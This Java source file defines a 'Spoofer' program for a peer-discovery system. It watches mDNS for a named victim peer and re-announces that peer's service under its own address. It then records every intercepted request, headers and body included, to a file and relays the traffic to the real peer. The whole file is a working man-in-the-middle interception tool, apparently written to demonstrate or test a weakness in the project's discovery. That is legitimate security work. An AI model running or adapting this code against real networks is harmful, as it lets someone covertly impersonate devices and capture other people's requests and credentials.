package org.morango.discovery;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.Inet4Address;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicBoolean;
import javax.jmdns.JmDNS;
import javax.jmdns.ServiceEvent;
import javax.jmdns.ServiceInfo;
import javax.jmdns.ServiceListener;

/**
 * Repeats the announcement of a peer, with its own address, and passes on all requests to the peer that it pretends to
 * be. Writes what it receives into a file. Arguments: its own address, the address of the peer, and the file.
 */
final class Spoofer implements ServiceListener {
    static final int PORT = 9_999;

    private final HttpClient client = HttpClient.newHttpClient();
    private final AtomicBoolean spoofs = new AtomicBoolean();
    private final Inet4Address victim;
    private final Path file;
    private final JmDNS dns;

    private Spoofer(String own, String victim, Path file) throws IOException {
        this.victim = FakeAir.address(victim);
        this.file = file;
        this.dns = JmDNS.create(FakeAir.address(own), "spoofer");
    }

    public static void main(String[] args) throws Exception {
        Spoofer spoofer = new Spoofer(args[0], args[1], Path.of(args[2]));
        HttpServer server = HttpServer.create(new InetSocketAddress(PORT), 0);
        server.createContext("/", spoofer::answer);
        server.start();
        spoofer.dns.addServiceListener(MdnsAir.SERVICE, spoofer);
        new CountDownLatch(1).await();
    }

    @Override
    public void serviceAdded(ServiceEvent event) {
        // Resolved later.
    }

    @Override
    public void serviceRemoved(ServiceEvent event) {
        // Does not matter.
    }

    @Override
    public void serviceResolved(ServiceEvent event) {
        ServiceInfo info = event.getInfo();
        if (Announcement.parse(info.getTextBytes()).isEmpty()) {
            // The text may come after the address.
            return;
        }
        if (List.of(info.getInet4Addresses()).contains(victim) && spoofs.compareAndSet(false, true)) {
            spoof(info);
        }
    }

    private void spoof(ServiceInfo info) {
        try {
            dns.registerService(ServiceInfo.create(MdnsAir.SERVICE, "spoofed", PORT, 0, 0, info.getTextBytes()));
            System.out.println("spoofer victim " + victim);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void answer(HttpExchange exchange) throws IOException {
        byte[] body = exchange.getRequestBody().readAllBytes();
        String request = exchange.getRequestMethod() + " " + exchange.getRequestURI() + " "
                + exchange.getRequestHeaders().entrySet() + " " + new String(body, StandardCharsets.UTF_8);
        Files.writeString(file, request + "\n", StandardOpenOption.CREATE, StandardOpenOption.APPEND);
        System.out.println("spoofer request " + exchange.getRequestMethod() + " " + exchange.getRequestURI());
        try (exchange) {
            var passedOn = client.send(
                    HttpRequest.newBuilder(URI.create("http://" + victim.getHostAddress() + ":" + Installation.PORT
                                    + exchange.getRequestURI()))
                            .header("Content-Type", "application/json")
                            .method(exchange.getRequestMethod(), BodyPublishers.ofByteArray(body))
                            .build(),
                    BodyHandlers.ofByteArray());
            exchange.sendResponseHeaders(
                    passedOn.statusCode(), passedOn.body().length == 0 ? -1 : passedOn.body().length);
            exchange.getResponseBody().write(passedOn.body());
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
